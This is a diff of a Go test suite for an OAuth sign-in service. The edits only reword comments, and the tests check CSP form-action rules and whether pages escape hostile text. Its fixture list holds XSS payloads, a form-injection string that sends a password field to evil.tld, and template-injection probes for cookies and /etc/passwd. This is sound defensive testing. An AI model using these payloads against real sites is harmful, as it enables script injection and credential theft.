@@ -24,7 +24,7 @@ func TestA68A69A86A90EveryPageGuardsItself(t *testing.T) {
 	for name, c := range map[string]struct {
 		page   page
 		status int
-		target string // where the forms may lead beside our own pages
+		target string // where the forms may lead, in addition to our own pages
 	}{
 		"sign-in":                 {stranger.open("/oauth/login"), 200, ""},
 		"sign-in for a client":    {stranger.open(conf.path()), 200, "https://client.example"},
@@ -54,7 +54,7 @@ func TestA68A69A86A90EveryPageGuardsItself(t *testing.T) {
 			want := "form-action 'self'"
 			if c.target != "" {
 				want += " " + c.target
-				if scheme, _, found := strings.Cut(c.target, "//"); found { // for the redirects behind it
+				if scheme, _, found := strings.Cut(c.target, "//"); found { // for the redirects after it
 					want += " " + scheme
 				}
 			}
@@ -122,13 +122,14 @@ func TestA88ErrorsInJSON(t *testing.T) {
 	holdPage(t, g.browser().fetch(http.MethodGet, "/oauth/login", "", "Accept", "application/json"), http.StatusOK)
 }
 
-// hostileTexts are markup of each context that a page has, and what Caddy or a layer between could expand. The pages' own tests have all of them.
+// hostileTexts are markup for each context of a page, and texts that Caddy or a layer in between could expand. The
+// pages' own tests use all of them.
 var hostileTexts = []string{
 	`"><script>alert(1)</script>`, `' onmouseover='alert(1)`, `</title></style></bdi></main><form action=https://evil.tld/><input name=password><!--`, `&lt;script&gt; %3Cscript%3E \u003cscript\u003e`,
 	`{{.}} {env.HOME} {http.request.header.Cookie} {file./etc/passwd} ${7*7} <%= 7*7 %> %s%n%x`, "\u202eevil\u202c \u200b\u2028 İ ı ß ſ 社會科學院 הָיְתָה 👩‍❤️‍💋‍👩", strings.Repeat("é", 120),
 }
 
-// shape is what a page is made of: its elements with the names of their attributes, but no text.
+// shape returns the structure of a page: its elements with the names of their attributes, without text.
 func shape(t *testing.T, p page) string {
 	t.Helper()
 	var b strings.Builder
@@ -147,7 +148,7 @@ func shape(t *testing.T, p page) string {
 	return b.String()
 }
 
-// words are the texts and the attributes' values of a page.
+// words returns the texts and the attribute values of a page.
 func words(t *testing.T, p page) []string {
 	t.Helper()
 	var found []string
@@ -162,9 +163,8 @@ func words(t *testing.T, p page) []string {
 	return found
 }
 
-// TestA77A78HostileTextsAreText: markup and naughty strings in every text that a page can show → the same elements, the text to the
-// letter, no CSP violation. It puts a text into everything that a page can show, and compares the page with what it is made of otherwise:
-// the same elements, and the text in them to the letter.
+// TestA77A78HostileTextsAreText: markup and naughty strings in every text that a page can show → the same elements,
+// the text to the letter, no CSP violation. It compares each page with the one that an ordinary text yields.
 func TestA77A78HostileTextsAreText(t *testing.T) {
 	g := startPeople(t, `scope orders.read "Read orders"`, "scope orders.read `</span><script>alert(1)</script>{env.HOME}`")
 	registry := g.app().registry
@@ -254,5 +254,5 @@ func TestA77A78HostileTextsAreText(t *testing.T) {
 	})
 }
 
-// descriptionOf is the error_description of a redirect.
+// descriptionOf returns the error_description of a redirect.
 func descriptionOf(p page) string { return p.location().Query().Get("error_description") }
